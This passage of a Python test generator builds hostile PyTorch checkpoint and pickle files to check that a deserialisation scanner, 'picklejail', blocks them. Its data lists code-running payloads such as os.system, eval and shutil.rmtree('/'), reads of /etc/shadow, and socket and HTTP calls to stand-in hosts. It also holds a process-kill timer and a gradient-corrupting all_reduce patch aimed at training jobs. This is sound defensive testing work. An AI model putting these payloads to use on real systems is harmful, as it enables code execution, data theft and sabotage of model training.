#!/usr/bin/env python3
"""Deterministic generator of hostile PyTorch checkpoints for picklejail.

    generate.py OUTDIR          writes every case plus OUTDIR/expected.tsv
    generate.py --list          prints the expectation table only

Every file is assembled from opcode bytes (pickle_bytes.py); nothing is pickled
from a live object and NOTHING HERE MAY EVER BE UNPICKLED by Python, torch or
numpy: many files carry working payloads (exec/os.system/...). Feed them to
picklejail only. Output is byte-identical on every run (fixed seeds, fixed zip
timestamps); the tests generate into a temporary directory so no payload is
committed.

Expectation table columns (expected.tsv):
  file      file name inside OUTDIR
  class     attack class (hostile-inputs.md section), see CLASSES
  code      exact picklejail error code, or "ok" when it must convert (random
            bit flips too: each one's ending was learned once by running it and
            is pinned in FLIP_OUTCOMES, so a change in how one ends is seen)
  contains  text the message must contain: the global name for code-running
            globals, else a phrase naming the reason ("-" for none)
  policy    --policy to convert with
  limits    JSON for --limits, "-" for the defaults
  what      one line of explanation
  known_bug "-", or why picklejail does not meet the expectation yet (the test
            marks the case xfail, strict: it fails once the bug is fixed, so the
            mark gets removed)
"""

import random
import struct
import sys
import warnings
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from pickle_bytes import *  # noqa: E402,F401,F403  (opcode builders)
import pickle_bytes as pb  # noqa: E402

# Every ending a hostile file may have: never a crash, internal error, timeout
# or sandbox violation.
CLEAN_CODES = frozenset({"ok", "forbidden_global", "malformed", "unsupported", "too_large"})

CLASSES = {
    "baseline": "well-formed controls that must convert (prove the builders are right)",
    "code_global": "a global that runs code, reads/writes files, opens sockets or loads code",
    "naming": "every way of naming a global (GLOBAL, STACK_GLOBAL, INST, OBJ, NEWOBJ(_EX), "
              "protocol 0, py2 names, memo, dotted names, EXT)",
    "nested": "forbidden calls nested inside allowed ones",
    "training_sabotage": "payloads aimed at the training job (kill timer, all_reduce patch)",
    "persistent_id": "persistent ids that are not storages",
    "torchscript": "TorchScript archives (CVE-2025-32434 dispatch)",
    "legacy": "legacy magic-number streams with payloads or lies in any of the pickles",
    "size_lie": "storage records and views that lie about sizes (CVE-2026-24747)",
    "type_confusion": "SETITEM/APPEND/BUILD on the wrong object, stack and mark abuse",
    "amplification": "stride-0 expansion, many views, memo laughs, millions of references",
    "limits": "huge strings/longs/lengths, deep nesting, cycles, memo index abuse",
    "zip_bomb": "deflate bombs and inflation lies",
    "archive": "zip tricks: duplicates, LH/CD mismatch, names, flags, bad directories",
    "truncation": "files cut at many points",
    "bitflip": "single-bit flips in headers, CRCs, data and pickles",
    "framing": "FRAME abuse, trailing data, text-opcode and unicode tricks",
    "format": "foreign containers: tar, 7z, npy, polyglots, empty input",
    "naming_collision": "tensor names that collide with each other or with metadata",
}


@dataclass
class Case:
    name: str
    data: bytes
    cls: str
    code: str
    contains: str = ""
    policy: str = "weights"
    limits: dict = field(default_factory=dict)
    what: str = ""
    known_bug: str = ""  # picklejail does not meet the expectation yet: why (the test xfails)


CASES = []


def add(name, data, cls, code, contains="", policy="weights", limits=None, what="",
        known_bug=""):
    assert cls in CLASSES, cls
    assert code in CLEAN_CODES, code
    assert all(c.name != name for c in CASES), name
    CASES.append(Case(name, bytes(data), cls, code, contains, policy, limits or {}, what,
                      known_bug))


# ---------------------------------------------------------------- shared pieces
W = [("fc.weight", (2, 3)), ("fc.bias", (2,))]


def sd_tensors(extra=()):
    """A small state_dict's (name, value) pairs plus its records."""
    pairs, records = [], {}
    for i, (name, shape) in enumerate(W):
        numel = 1
        for d in shape:
            numel *= d
        pairs.append((name, tensor(str(i), shape)))
        records[str(i)] = float_bytes(numel, i)
    pairs.extend(extra)
    return pairs, records


def state_dict_zip(extra=(), prefix="archive", protocol=2, **kw):
    pairs, records = sd_tensors(extra)
    return torch_zip(pickle_of(ordered_dict(pairs), protocol), records, prefix=prefix, **kw)


def state_dict_legacy(extra=(), **kw):
    pairs = [(name, tensor(str(i), shape, legacy=True)) for i, (name, shape) in enumerate(W)]
    pairs.extend(extra)
    storages = [("0", 6, float_bytes(6)), ("1", 2, float_bytes(2, 1))]
    return legacy_stream(pickle_of(ordered_dict(pairs)), storages, **kw)


def one_tensor_zip(value, records, protocol=2, **kw):
    return torch_zip(pickle_of(str_dict([("t", value)]), protocol), records, **kw)


def cname(module, name):
    renames = {"__builtin__": "builtins", "copy_reg": "copyreg", "torch.tensor": "torch._tensor"}
    return f"{renames.get(module, module)}.{name}"


KILL_TIMER = (
    "import os, signal, threading\n"
    "threading.Timer(7.0, lambda: os.kill(os.getpid(), signal.SIGKILL)).start()\n")
ALL_REDUCE_PATCH = (
    "import torch.distributed as dist\n"
    "_orig = dist.all_reduce\n"
    "def all_reduce(tensor, *a, **k):\n"
    "    work = _orig(tensor, *a, **k)\n"
    "    tensor.mul_(-1.0).add_(1e-3)\n"
    "    return work\n"
    "dist.all_reduce = all_reduce\n")


# ---------------------------------------------------------------- baselines
def baselines():
    add("ok_zip_state_dict.pt", state_dict_zip(), "baseline", "ok",
        what="two FloatStorage tensors in an OrderedDict, torch.save zip layout")
    add("ok_zip_deflated.pt", state_dict_zip(method=zipfile.ZIP_DEFLATED), "baseline", "ok",
        what="same, records deflated")
    add("ok_zip_other_prefix.pt", state_dict_zip(prefix="pytorch_model"), "baseline", "ok",
        what="any top-level directory name")
    add("ok_legacy_state_dict.pt", state_dict_legacy(), "baseline", "ok",
        what="legacy magic-number stream, two storages")
    add("ok_plain_pickle.pkl", pickle_of(str_dict([("lr", integer(3)), ("name", binunicode("x"))])),
        "baseline", "ok", what="plain data pickle, no tensors")
    add("ok_zip_proto4_frames.pt",
        torch_zip(proto(4) + frame(str_dict([("a", integer(1))]) + STOP), {}), "baseline", "ok",
        what="protocol 4 with an exact FRAME")
    views = [(f"v{i}", tensor("0", (6,))) for i in range(3000)]
    add("ok_zip_3000_identical_views.pt",
        torch_zip(pickle_of(ordered_dict(views)), {"0": float_bytes(6)}), "amplification", "ok",
        what="3000 identical views of one storage are stored once with aliases")
    add("ok_zip_sparse_memo_indices.pt",
        torch_zip(pickle_of(str_dict([("a", integer(1) + long_binput(0xFFFFFFFF)),
                                      ("b", long_binget(0xFFFFFFFF))])), {}),
        "limits", "ok", what="LONG_BINPUT 0xFFFFFFFF is a sparse map entry, not 4G slots")


# ---------------------------------------------------------------- code-running globals
CODE_GLOBALS = [
    # (module, name, argument bytes)
    ("os", "system", binunicode("id")),
    ("os", "popen", binunicode("id")),
    ("os", "execv", binunicode("/bin/sh") + lst(binunicode("sh"))),
    ("os", "execl", binunicode("/bin/sh")),
    ("os", "spawnv", integer(0) + binunicode("/bin/sh") + lst()),
    ("os", "kill", integer(1) + integer(9)),
    ("os", "remove", binunicode("/etc/passwd")),
    ("os", "putenv", binunicode("LD_PRELOAD") + binunicode("/tmp/x.so")),
    ("os", "fork", b""),
    ("posix", "system", binunicode("id")),
    ("posix", "execv", binunicode("/bin/sh") + lst()),
    ("nt", "system", binunicode("calc.exe")),
    ("nt", "startfile", binunicode("calc.exe")),
    ("_posixsubprocess", "fork_exec", lst(binunicode("sh"))),
    ("subprocess", "Popen", lst(binunicode("sh"), binunicode("-c"), binunicode("id"))),
    ("subprocess", "call", binunicode("id")),
    ("subprocess", "check_output", binunicode("id")),
    ("subprocess", "run", binunicode("id")),
    ("subprocess", "getoutput", binunicode("id")),
    ("builtins", "eval", binunicode("__import__('os').system('id')")),
    ("builtins", "exec", binunicode("import os; os.system('id')")),
    ("builtins", "getattr", binunicode("os") + binunicode("system")),
    ("builtins", "setattr", binunicode("x") + binunicode("y") + NONE),
    ("builtins", "__import__", binunicode("os")),
    ("builtins", "compile", binunicode("1") + binunicode("<x>") + binunicode("eval")),
    ("builtins", "open", binunicode("/etc/shadow")),
    ("builtins", "globals", b""),
    ("builtins", "breakpoint", b""),
    ("builtins", "vars", b""),
    ("builtins", "input", b""),
    ("builtins", "object", b""),
    ("builtins", "type", binunicode("X") + EMPTY_TUPLE + EMPTY_DICT),
    ("__builtin__", "eval", binunicode("1")),
    ("__builtin__", "execfile", binunicode("/tmp/x.py")),
    ("__builtin__", "apply", NONE),
    ("importlib", "import_module", binunicode("os")),
    ("importlib", "__import__", binunicode("os")),
    ("_frozen_importlib", "_load", NONE),
    ("imp", "load_source", binunicode("x") + binunicode("/tmp/x.py")),
    ("zipimport", "zipimporter", binunicode("/tmp/x.zip")),
    ("runpy", "_run_code", binunicode("import os") + EMPTY_DICT),
    ("runpy", "run_path", binunicode("/tmp/x.py")),
    ("runpy", "run_module", binunicode("http.server")),
    ("pickle", "loads", short_binbytes(b"\x80\x02cos\nsystem\n.")),
    ("_pickle", "loads", short_binbytes(b"\x80\x02.")),
    ("cPickle", "loads", short_binbytes(b"\x80\x02.")),
    ("pickle", "_Unpickler", NONE),
    ("marshal", "loads", short_binbytes(b"\xe3")),
    ("types", "FunctionType", NONE + EMPTY_DICT),
    ("types", "CodeType", integer(0)),
    ("ctypes", "CDLL", binunicode("libc.so.6")),
    ("ctypes", "cdll.LoadLibrary", binunicode("libc.so.6")),
    ("_ctypes", "dlopen", binunicode("libc.so.6")),
    ("socket", "create_connection", tup(binunicode("10.0.0.1"), integer(4444))),
    ("socket", "socket", b""),
    ("ssl", "get_server_certificate", tup(binunicode("evil"), integer(443))),
    ("shutil", "rmtree", binunicode("/")),
    ("shutil", "copyfile", binunicode("/etc/shadow") + binunicode("/tmp/x")),
    ("sys", "exit", integer(1)),
    ("sys", "setprofile", NONE),
    ("torch", "load", binunicode("/tmp/evil.pt")),
    ("torch.serialization", "load", binunicode("/tmp/evil.pt")),
    ("torch.jit", "load", binunicode("/tmp/evil.pt")),
    ("torch._C", "import_ir_module", NONE),
    ("torch._C", "_jit_script_compile", NONE),
    ("torch.storage", "_load_from_bytes", short_binbytes(b"PK")),
    ("torch.hub", "load", binunicode("evil/repo") + binunicode("model")),
    ("torch.utils.cpp_extension", "load_inline", binunicode("x") + binunicode("int x;")),
    ("torch._dynamo.guards", "GuardBuilder.get", binunicode("__import__('os')")),
    ("torch.utils.collect_env", "run", binunicode("id")),
    ("torch._inductor.codecache", "compile_file", NONE),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", binunicode("import os")),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression",
     binunicode("x")),
    ("torch.utils._config_module", "ConfigModule.load_config", short_binbytes(b"\x80\x02.")),
    ("torch.distributed", "all_reduce", NONE),
    ("torch.nn", "Module", b""),
    ("numpy", "load", binunicode("/tmp/x.npy") + NEWTRUE),
    ("numpy.testing._private.utils", "runstring", binunicode("import os") + EMPTY_DICT),
    ("numpy.f2py.crackfortran", "getlincoef", binunicode("x") + EMPTY_DICT),
    ("numpy.lib.npyio", "load", binunicode("/tmp/x.npy")),
    ("webbrowser", "open", binunicode("http://evil")),
    ("code", "InteractiveInterpreter.runcode", binunicode("import os")),
    ("code", "interact", b""),
    ("pty", "spawn", binunicode("/bin/sh")),
    ("pip", "main", lst(binunicode("install"), binunicode("evil"))),
    ("pydoc", "pipepager", binunicode("x") + binunicode("sh")),
    ("pydoc", "locate", binunicode("os.system")),
    ("operator", "attrgetter", binunicode("system")),
    ("_operator", "attrgetter", binunicode("system")),
    ("operator", "methodcaller", binunicode("system") + binunicode("id")),
    ("functools", "partial", NONE),
    ("functools", "reduce", NONE),
    ("pkgutil", "resolve_name", binunicode("os:system")),
    ("timeit", "timeit", binunicode("import os")),
    ("cProfile", "run", binunicode("import os")),
    ("profile", "run", binunicode("import os")),
    ("trace", "Trace.run", binunicode("import os")),
    ("bdb", "Bdb.run", binunicode("import os")),
    ("pdb", "run", binunicode("import os")),
    ("doctest", "debug_script", binunicode("import os")),
    ("idlelib.pyshell", "ModifiedInterpreter.runcode", binunicode("import os")),
    ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", NONE),
    ("uuid", "_get_command_stdout", binunicode("sh")),
    ("_osx_support", "_read_output", binunicode("id")),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start", NONE),
    ("imaplib", "IMAP4_stream", binunicode("id")),
    ("logging", "FileHandler", binunicode("/root/.bashrc")),
    ("_io", "FileIO", binunicode("/etc/shadow")),
    ("io", "open", binunicode("/etc/shadow")),
    ("urllib.request", "urlopen", binunicode("http://evil")),
    ("requests.api", "get", binunicode("http://evil")),
    ("httplib", "HTTPSConnection", binunicode("evil")),
    ("http.client", "HTTPConnection", binunicode("evil")),
    ("smtplib", "SMTP", binunicode("evil")),
    ("venv", "create", binunicode("/tmp/v")),
    ("ensurepip", "_run_pip", lst()),
    ("multiprocessing", "Process", b""),
    ("threading", "Timer", integer(1) + NONE),
    ("signal", "signal", integer(15) + NONE),
    ("copyreg", "_reconstructor", NONE + NONE + NONE),
    ("copy_reg", "_reconstructor", NONE + NONE + NONE),
    ("dill._dill", "_create_function", NONE),
    ("cloudpickle.cloudpickle", "_make_function", NONE),
    ("joblib", "load", binunicode("/tmp/x")),
    ("tempfile", "mkstemp", b""),
    ("tarfile", "open", binunicode("/tmp/x.tar")),
    ("mmap", "mmap", integer(0) + integer(4096)),
    ("gc", "get_objects", b""),
    ("sqlite3", "connect", binunicode("/tmp/x.db")),
    ("__main__", "Exploit", b""),
    ("__torch__", "Model", b""),
    ("sklearn.linear_model._logistic", "LogisticRegression", b""),
]


def code_globals():
    for module, name, args in CODE_GLOBALS:
        full = cname(module, name)
        slug = f"{module}.{name}".replace(".", "_")
        payload = glob(module, name) + tup(*([args] if args else [])) + REDUCE
        add(f"global_{slug}.pt", state_dict_zip(extra=[("x", payload)]), "code_global",
            "forbidden_global", full,
            what=f"state_dict zip whose extra value calls {full}")
    # A few as bare plain pickles and legacy files, and with checkpoint policy.
    for module, name in [("os", "system"), ("builtins", "exec"), ("subprocess", "Popen"),
                         ("posix", "system"), ("runpy", "_run_code")]:
        full = cname(module, name)
        slug = full.replace(".", "_")
        body = call(glob(module, name), binunicode("id"))
        add(f"plain_{slug}.pkl", pickle_of(body), "code_global", "forbidden_global", full,
            what=f"plain pickle calling {full}")
        add(f"plain_{slug}_checkpoint_policy.pkl", pickle_of(body), "code_global",
            "forbidden_global", full, policy="checkpoint",
            what=f"plain pickle calling {full}, checkpoint policy")
        add(f"legacy_main_{slug}.pt", state_dict_legacy(extra=[("x", body)]), "code_global",
            "forbidden_global", full, what=f"legacy main pickle calling {full}")
    # Allowed globals used for what they are not.
    add("misuse_storage_class_called.pt",
        state_dict_zip(extra=[("x", call(glob("torch", "FloatStorage"), integer(10)))]),
        "code_global", "forbidden_global", "torch.FloatStorage",
        what="an allowed storage class REDUCEd directly (only valid inside a persistent id)")
    add("misuse_tensor_class_called.pt",
        state_dict_zip(extra=[("x", call(glob("torch", "Tensor"), lst()))]),
        "code_global", "forbidden_global", "torch.Tensor",
        what="torch.Tensor called")
    add("misuse_rebuild_newobj.pt",
        state_dict_zip(extra=[("x", glob("torch._utils", "_rebuild_tensor_v2") + EMPTY_TUPLE
                               + NEWOBJ)]),
        "code_global", "forbidden_global", "torch._utils._rebuild_tensor_v2",
        what="a rebuild function instantiated with NEWOBJ")
    add("misuse_build_on_global.pt",
        state_dict_zip(extra=[("x", glob("collections", "OrderedDict")
                               + str_dict([("__init__", NONE)]) + BUILD)]),
        "code_global", "forbidden_global", "collections.OrderedDict",
        what="BUILD on an allowed global (module/class mutation)")
    add("misuse_module_global_build.pkl",
        pickle_of(short_binunicode("torch") + short_binunicode("_utils")
                  + STACK_GLOBAL + str_dict([("_rebuild_tensor_v2", NONE)]) + BUILD, 4),
        "code_global", "forbidden_global", "torch._utils",
        what="sys_module_override: a module as a global, rewritten through BUILD")


# ---------------------------------------------------------------- naming a global
def naming():
    arg = binunicode("id")

    def sd(body, protocol=2):
        return state_dict_zip(extra=[("x", body)], protocol=protocol)

    add("name_global_opcode.pt", sd(call(glob("os", "system"), arg)), "naming",
        "forbidden_global", "os.system", what="GLOBAL")
    add("name_stack_global_short_binunicode.pt",
        sd(short_binunicode("os") + short_binunicode("system") + STACK_GLOBAL + arg + TUPLE1
           + REDUCE, 4), "naming", "forbidden_global", "os.system",
        what="STACK_GLOBAL from SHORT_BINUNICODE operands")
    add("name_stack_global_binunicode.pt",
        sd(binunicode("subprocess") + binunicode("Popen") + STACK_GLOBAL + arg + TUPLE1 + REDUCE,
           4), "naming", "forbidden_global", "subprocess.Popen",
        what="STACK_GLOBAL from BINUNICODE operands")
    add("name_stack_global_binunicode8.pt",
        sd(binunicode8("builtins") + binunicode8("exec") + STACK_GLOBAL + arg + TUPLE1 + REDUCE,
           4), "naming", "forbidden_global", "builtins.exec",
        what="STACK_GLOBAL from BINUNICODE8 operands")
    add("name_stack_global_short_binstring.pt",
        sd(short_binstring("os") + short_binstring("system") + STACK_GLOBAL + arg + TUPLE1
           + REDUCE, 4), "naming", "forbidden_global", "os.system",
        what="STACK_GLOBAL from Python 2 str operands")
    add("name_stack_global_text_string.pt",
        sd(text_string("os") + text_string("system") + STACK_GLOBAL + arg + TUPLE1 + REDUCE, 4),
        "naming", "forbidden_global", "os.system",
        what="STACK_GLOBAL from protocol-0 STRING operands")
    add("name_stack_global_text_unicode.pt",
        sd(text_unicode("os") + text_unicode("system") + STACK_GLOBAL + arg + TUPLE1 + REDUCE,
           4), "naming", "forbidden_global", "os.system",
        what="STACK_GLOBAL from protocol-0 UNICODE operands")
    # Memo strings: stored early in unrelated places, fetched in reverse order.
    memo_sd = ordered_dict([
        ("fc.weight", tensor("0", (2, 3))),
        ("meta", lst(binunicode("system") + binput(200), binunicode("os") + binput(201))),
        ("x", binget(201) + binget(200) + STACK_GLOBAL + arg + TUPLE1 + REDUCE)])
    add("name_stack_global_memo.pt",
        torch_zip(pickle_of(memo_sd, 4), {"0": float_bytes(6)}), "naming", "forbidden_global",
        "os.system", what="STACK_GLOBAL operands fetched from memo strings stored elsewhere")
    memoize_sd = ordered_dict([
        ("x", short_binunicode("builtins") + MEMOIZE + POP + short_binunicode("eval") + MEMOIZE
         + POP + binget(0) + binget(1) + STACK_GLOBAL + arg + TUPLE1 + REDUCE)])
    add("name_stack_global_memoize.pt", torch_zip(pickle_of(memoize_sd, 4), {}), "naming",
        "forbidden_global", "builtins.eval", what="operands through MEMOIZE + BINGET")
    add("name_stack_global_dotted.pt",
        sd(short_binunicode("builtins") + short_binunicode("eval.__call__") + STACK_GLOBAL + arg
           + TUPLE1 + REDUCE, 4), "naming", "forbidden_global", "builtins.eval.__call__",
        what="dotted attribute name (proto-4 find_class walks dots)")
    add("name_stack_global_pathlib_os.pt",
        sd(short_binunicode("pathlib") + short_binunicode("os.system") + STACK_GLOBAL + arg
           + TUPLE1 + REDUCE, 4), "naming", "forbidden_global", "pathlib.os.system",
        what="module attribute walk pathlib -> os.system")
    add("name_stack_global_allowed_prefix.pt",
        sd(short_binunicode("torch._utils") + short_binunicode("_rebuild_tensor_v2.__globals__")
           + STACK_GLOBAL, 4), "naming", "forbidden_global",
        "torch._utils._rebuild_tensor_v2.__globals__",
        what="an allowed name with an attribute suffix")
    add("name_stack_global_computed_torchversion.pt",
        pickle_of(call(glob("torch.torch_version", "TorchVersion"), binunicode("os"))
                  + call(glob("torch.torch_version", "TorchVersion"), binunicode("system"))
                  + STACK_GLOBAL + arg + TUPLE1 + REDUCE, 4),
        "naming", "forbidden_global", "os.system", policy="checkpoint",
        what="STACK_GLOBAL operands computed by REDUCE of an allowed str-returning global")
    add("name_stack_global_bytes_operands.pt",
        pickle_of(call(glob("_codecs", "encode"), binunicode("os"), binunicode("latin1"))
                  + call(glob("_codecs", "encode"), binunicode("system"), binunicode("latin1"))
                  + STACK_GLOBAL, 4),
        "naming", "malformed", "STACK_GLOBAL operands must both be str",
        what="STACK_GLOBAL operands that are bytes built by _codecs.encode")
    add("name_stack_global_dangling_memo.pt",
        sd(binget(7) + binget(8) + STACK_GLOBAL, 4), "naming", "malformed", "never stored",
        what="STACK_GLOBAL from a memo slot never stored")
    add("name_stack_global_int_operands.pkl",
        pickle_of(integer(1) + integer(2) + STACK_GLOBAL, 4), "naming", "malformed",
        "STACK_GLOBAL operands", what="non-string operands")
    add("name_inst.pt", sd(MARK + arg + inst("os", "system")), "naming", "forbidden_global",
        "os.system", what="INST os.system")
    add("name_inst_allowed_dtype.pkl", pickle_of(MARK + inst("torch", "float32")), "naming",
        "malformed", "INST on a dtype", what="INST on a dtype value")
    add("name_obj.pt", sd(MARK + glob("os", "system") + arg + OBJ), "naming", "forbidden_global",
        "os.system", what="OBJ os.system")
    add("name_obj_result_popped.pt",
        sd(MARK + glob("builtins", "exec") + arg + OBJ + POP + NONE), "naming",
        "forbidden_global", "builtins.exec", what="OBJ whose result is discarded by POP")
    add("name_newobj.pt", sd(glob("subprocess", "Popen") + tup(lst(arg)) + NEWOBJ), "naming",
        "forbidden_global", "subprocess.Popen", what="NEWOBJ subprocess.Popen")
    add("name_newobj_ex.pt",
        sd(glob("bdb", "Bdb") + EMPTY_TUPLE + str_dict([("skip", NONE)]) + NEWOBJ_EX, 4),
        "naming", "forbidden_global", "bdb.Bdb", what="NEWOBJ_EX bdb.Bdb")
    add("name_newobj_ex_kwargs_allowed.pt",
        sd(glob("collections", "OrderedDict") + EMPTY_TUPLE + str_dict([("a", NONE)])
           + NEWOBJ_EX, 4), "naming", "unsupported", "keyword arguments",
        what="NEWOBJ_EX with keyword arguments on an allowed class")
    add("name_protocol0_text.pkl",
        b"cos\nsystem\n(S'id'\ntR.", "naming", "forbidden_global", "os.system",
        what="protocol 0: GLOBAL, MARK, STRING, TUPLE, REDUCE")
    add("name_protocol0_text_put_get.pkl",
        b"(dp0\nS'a'\np1\ncbuiltins\neval\np2\n(g1\ntRs.", "naming", "forbidden_global",
        "builtins.eval", what="protocol 0 with PUT/GET text indices")
    add("name_protocol1_binstring.pkl",
        glob("os", "system") + MARK + binstring("id") + TUPLE + REDUCE + STOP, "naming",
        "forbidden_global", "os.system", what="protocol 1 BINSTRING argument")
    add("name_py2_builtin.pkl", pickle_of(call(glob("__builtin__", "eval"), arg)), "naming",
        "forbidden_global", "builtins.eval", what="Python 2 module name __builtin__")
    add("name_py2_copy_reg.pkl",
        pickle_of(call(glob("copy_reg", "_reconstructor"), glob("os", "system"), NONE, NONE)),
        "naming", "forbidden_global", "copyreg._reconstructor",
        what="copy_reg._reconstructor (Python 2 name of copyreg)")
    add("name_crlf_terminators.pkl", b"cos\r\nsystem\r\n(S'id'\r\ntR.", "naming",
        "forbidden_global", "global os", what="\\r\\n line endings in GLOBAL")
    for op, raw in (("ext1", b"\x82\x01"), ("ext2", b"\x83\x01\x00"), ("ext4", b"\x84\x01\x00\x00\x00")):
        add(f"name_{op}.pkl", pickle_of(raw + arg + TUPLE1 + REDUCE), "naming",
            "forbidden_global", "extension-registry",
            what=f"{op.upper()} names a global through copyreg's extension registry")
    add("name_invalid_utf8.pkl", b"cos\xff\nsys\xfe\n.", "naming", "forbidden_global",
        "is not allowed", what="global name with invalid UTF-8 (must not be echoed raw)")
    add("name_ansi_escape.pkl", b"c\x1b[2J\x1b]0;pwned\x07os\nsystem\n.", "naming",
        "forbidden_global", "is not allowed",
        what="terminal escape sequences in a global name (message must be sanitized)")
    add("name_huge_module.pkl", b"c" + b"a" * 60000 + b"\nsystem\n.", "naming",
        "forbidden_global", "is not allowed", what="a 60 KB module name")
    add("name_unterminated.pkl", b"\x80\x02cos\nsys", "naming", "malformed",
        "no terminating newline", what="GLOBAL name without newline")
    add("name_empty_module.pkl", pickle_of(glob("", "eval")), "naming", "forbidden_global",
        ".eval", what="empty module name")
    add("name_nul_in_name.pkl", b"\x80\x02ctorch._utils\x00os\nsystem\n.", "naming",
        "forbidden_global", "is not allowed", what="NUL inside a module name")


# ---------------------------------------------------------------- nested forbidden calls
def nested():
    evil = call(glob("builtins", "eval"), binunicode("__import__('os').system('id')"))
    ex = call(glob("builtins", "exec"), binunicode(KILL_TIMER))

    def od_pairs(*pairs):
        return call(glob("collections", "OrderedDict"),
                    lst(*(tup(binunicode(k), v) for k, v in pairs)))

    add("nested_ordered_dict_ctor_arg.pt",
        state_dict_zip(extra=[("cfg", od_pairs(("a", integer(1)), ("b", evil)))]), "nested",
        "forbidden_global", "builtins.eval", what="OrderedDict([(k, eval(...))])")
    add("nested_ordered_dict_setitems.pt", state_dict_zip(extra=[("b", evil)]), "nested",
        "forbidden_global", "builtins.eval", what="eval as a state_dict value (SETITEMS)")
    add("nested_rebuild_size.pt",
        one_tensor_zip(rebuild_v2(storage_pid("0", 6), 0, size_bytes=tup(integer(2), evil),
                                  stride=(3, 1)), {"0": float_bytes(6)}),
        "nested", "forbidden_global", "builtins.eval", what="eval inside _rebuild_tensor_v2 size")
    add("nested_rebuild_storage.pt",
        one_tensor_zip(rebuild_v2(call(glob("os", "system"), binunicode("id")), 0, (1,)), {}),
        "nested", "forbidden_global", "os.system", what="os.system as the storage argument")
    add("nested_rebuild_offset.pt",
        one_tensor_zip(rebuild_v2(storage_pid("0", 6), offset_bytes=call(
            glob("builtins", "getattr"), binunicode("x"), binunicode("y")), size=(1,)),
            {"0": float_bytes(6)}),
        "nested", "forbidden_global", "builtins.getattr", what="getattr as the storage offset")
    add("nested_rebuild_hooks.pt",
        one_tensor_zip(rebuild_v2(storage_pid("0", 6), 0, (6,), hooks=od_pairs(
            ("0", glob("__main__", "steal_grad")))), {"0": float_bytes(6)}),
        "nested", "forbidden_global", "__main__.steal_grad",
        what="a backward hook function in backward_hooks")
    add("nested_rebuild_metadata.pt",
        one_tensor_zip(rebuild_v2(storage_pid("0", 6), 0, (6,), metadata=str_dict(
            [("conj", ex)])), {"0": float_bytes(6)}),
        "nested", "forbidden_global", "builtins.exec", what="exec inside the v2 metadata dict")
    add("nested_defaultdict_factory_forbidden.pt",
        state_dict_zip(extra=[("d", call(glob("collections", "defaultdict"),
                                         glob("os", "system")))]),
        "nested", "forbidden_global", "os.system", policy="checkpoint",
        what="defaultdict(os.system)")
    add("nested_defaultdict_factory_allowed_global.pt",
        state_dict_zip(extra=[("d", call(glob("collections", "defaultdict"),
                                         glob("torch._utils", "_rebuild_tensor_v2")))]),
        "nested", "forbidden_global", "torch._utils._rebuild_tensor_v2", policy="checkpoint",
        what="defaultdict whose factory is an allowed non-factory global")
    add("nested_defaultdict_weights_policy.pt",
        state_dict_zip(extra=[("d", call(glob("collections", "defaultdict"),
                                         glob("builtins", "list")))]),
        "nested", "forbidden_global", "collections.defaultdict",
        what="defaultdict is not in the weights policy")
    add("nested_build_state_ordered_dict.pt",
        torch_zip(pickle_of(ordered_dict([("w", tensor("0", (6,)))])
                            + str_dict([("_metadata", ex)]) + BUILD), {"0": float_bytes(6)}),
        "nested", "forbidden_global", "builtins.exec",
        what="exec inside the OrderedDict BUILD state (_metadata)")
    add("nested_build_state_parameter.pt",
        one_tensor_zip(call(glob("torch._utils", "_rebuild_parameter"),
                            tensor("0", (6,)), NEWTRUE, ordered_dict())
                       + str_dict([("hook", evil)]) + BUILD, {"0": float_bytes(6)}),
        "nested", "forbidden_global", "builtins.eval", what="eval in a Parameter's BUILD state")
    add("nested_build_state_namespace.pkl",
        pickle_of(glob("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ
                  + str_dict([("lr", evil)]) + BUILD),
        "nested", "forbidden_global", "builtins.eval", policy="checkpoint",
        what="eval in argparse.Namespace state")
    add("nested_from_type_v2_func.pt",
        one_tensor_zip(call(glob("torch._tensor", "_rebuild_from_type_v2"),
                            glob("collections", "OrderedDict"), glob("torch", "Tensor"),
                            EMPTY_TUPLE, EMPTY_DICT), {}),
        "nested", "forbidden_global", "may only wrap a tensor rebuild function",
        what="_rebuild_from_type_v2 wrapping a non-rebuild global")
    add("nested_from_type_v2_subclass.pt",
        one_tensor_zip(call(glob("torch._tensor", "_rebuild_from_type_v2"),
                            glob("torch._utils", "_rebuild_tensor_v2"),
                            glob("__main__", "EvilTensor"), EMPTY_TUPLE, EMPTY_DICT), {}),
        "nested", "forbidden_global", "__main__.EvilTensor",
        what="_rebuild_from_type_v2 with a custom subclass")
    add("nested_from_type_v2_state.pt",
        one_tensor_zip(call(glob("torch._tensor", "_rebuild_from_type_v2"),
                            glob("torch._utils", "_rebuild_tensor_v2"), glob("torch", "Tensor"),
                            tup(storage_pid("0", 6), integer(0), int_tuple((6,)),
                                int_tuple((1,)), NEWFALSE, ordered_dict()),
                            str_dict([("x", ex)])), {"0": float_bytes(6)}),
        "nested", "forbidden_global", "builtins.exec",
        what="exec in _rebuild_from_type_v2's state dict")
    add("nested_parameter_with_state.pt",
        one_tensor_zip(call(glob("torch._utils", "_rebuild_parameter_with_state"),
                            tensor("0", (6,)), NEWTRUE, ordered_dict(),
                            str_dict([("x", evil)])), {"0": float_bytes(6)}),
        "nested", "forbidden_global", "builtins.eval",
        what="eval in _rebuild_parameter_with_state state")
    add("nested_numpy_reconstruct_class.pkl",
        pickle_of(call(glob("numpy.core.multiarray", "_reconstruct"), glob("os", "system"),
                       int_tuple((0,)), short_binbytes(b"b"))),
        "nested", "forbidden_global", "os.system", policy="checkpoint",
        what="numpy _reconstruct with os.system as the class")
    add("nested_numpy_reconstruct_allowed_class.pkl",
        pickle_of(call(glob("numpy.core.multiarray", "_reconstruct"),
                       glob("collections", "OrderedDict"), int_tuple((0,)), short_binbytes(b"b"))),
        "nested", "forbidden_global", "may only rebuild numpy.ndarray", policy="checkpoint",
        what="numpy _reconstruct with another allowed class")
    add("nested_numpy_weights_policy.pkl",
        pickle_of(call(glob("numpy.core.multiarray", "_reconstruct"), glob("numpy", "ndarray"),
                       int_tuple((0,)), short_binbytes(b"b"))),
        "nested", "forbidden_global", "numpy.core.multiarray._reconstruct",
        what="numpy arrays under the weights policy")
    add("nested_namespace_args.pkl",
